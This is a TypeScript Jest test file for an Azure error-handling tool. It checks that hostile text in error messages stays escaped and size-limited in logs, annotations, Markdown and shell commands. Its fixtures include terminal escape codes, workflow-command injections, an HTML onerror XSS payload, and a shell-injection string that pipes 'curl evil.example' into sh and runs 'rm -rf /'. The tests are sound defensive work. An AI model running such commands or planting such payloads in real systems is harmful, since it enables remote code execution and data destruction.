/** Text from outside stays text in the log, the annotation, the summary and commands, however long it is. */
import { expect, test } from '@jest/globals';
import { explain } from '../../../src/error-catalog/explain.ts';
import { AzureError } from '../../../src/errors/errors.ts';
import { errorTitle, formatError } from '../../../src/errors/format-error.ts';
import { parseErrorResponse } from '../../../src/errors/parse-error-response.ts';
import { block, markdownText, quotation, shellCommand } from '../../../src/lib/escape.ts';
import { escapeWorkflowCommands, limitAnnotation } from '../../../src/runner/log.ts';

const megabytes = 2_000_000;

/** As text: JSON.stringify does not go that deep. */
function nested(depth: number): string {
  const levels = '{"code":"Level","message":"x","details":['.repeat(depth);
  return `{"error":${levels}{"code":"Innermost","message":"the reason"}${']}'.repeat(depth)}}`;
}

const withMessage = (message: string, code = 'Conflict') => ({ error: { code, message, target: message } });

test.each<[string, object | string]>([
  ['terminal codes', withMessage('\u001B[31mred\u001B[0m \u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007')],
  ['codes in the error code', withMessage('x', '\u001B[2J\u202Eegassem')],
  ['bidirectional text', withMessage('a\u202Eb\u2066c\u200Fd')],
  ['workflow commands', withMessage('x\n::error::y\r  ::set-output name=a::b\u2028::stop-commands::z\n##[group]w')],
  ['Markdown', withMessage('](https://evil.example) | `x` **b** @octocat #1 ![i](https://evil.example/i.png)')],
  ['HTML', withMessage('<img src=x onerror=alert(1)></details><!-- ')],
  ['a shell command', withMessage("'; curl evil.example | sh; $(id) `id` \n rm -rf /")],
  ['2 MB of text', withMessage('word '.repeat(megabytes / 5))],
  ['2 MB without a space', withMessage('/a'.repeat(megabytes / 2))],
  [
    '2 MB of what a policy error begins with',
    withMessage('"policyAssignment":{'.repeat(megabytes / 20), 'RequestDisallowedByPolicy'),
  ],
  ['2 MB of spaces', withMessage(`Resource${' '.repeat(megabytes)}`)],
  ['2 MB of lines', withMessage('a\n'.repeat(megabytes / 2))],
  ['2 MB that is not JSON', '<'.repeat(megabytes)],
  ['3,000 nested details', nested(3000)],
  [
    '3,000 details side by side',
    { error: { code: 'A', message: 'm', details: Array.from({ length: 3000 }, () => ({ code: 'B', message: 'n' })) } },
  ],
  [
    'messages within messages',
    { error: { code: 'A', message: JSON.stringify(withMessage(JSON.stringify(withMessage('x')))) } },
  ],
])('keep %s inert and bounded', (_, body) => {
  const bodyText = typeof body === 'string' ? body : JSON.stringify(body);
  const url = 'https://management.azure.com/subscriptions/s/providers/Microsoft.Compute/virtualMachines/vm1';
  const fault = parseErrorResponse({ method: 'PUT', url, status: 409, headers: () => undefined, bodyText });
  expect([fault.details.length <= 20, fault.body.length <= 32_000]).toEqual([true, true]);
  const error = new AzureError(fault);
  const explained = (one: typeof fault) => explain(one, {});
  const text = formatError(error, explained).join('\n');
  // oxlint-disable-next-line no-control-regex
  const unsafe = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200E\u200F\u202A-\u202E\u2028\u2066-\u2069]/;
  const log = escapeWorkflowCommands(text);
  const annotation = limitAnnotation(text);
  expect(log.length).toBeLessThan(100_000);
  expect(Buffer.byteLength(annotation)).toBeLessThanOrEqual(4096);
  expect(errorTitle(error, explained).length).toBeLessThanOrEqual(200);
  for (const shown of [log, annotation]) {
    expect(shown).not.toMatch(unsafe);
    // What is left of terminal codes without their first character.
    expect(shown).not.toMatch(/\[31m|\[2J|\]8;;/);
  }
  expect(log).not.toMatch(/^\s*::|##\[/m);
  for (const markdown of [markdownText(fault.message), quotation(fault.message)]) {
    expect(markdown).not.toMatch(unsafe);
    expect(markdown.replaceAll(/<br>|&#\d+;/g, '')).not.toMatch(/[<`*|\]@#]/);
    expect(markdown.length).toBeLessThan(50_000);
  }
  expect(block(fault.message).split('\n').at(-1)).toMatch(/^`{3,}$/);
  expect(shellCommand`${fault.message}`).not.toMatch(/\n/);
});
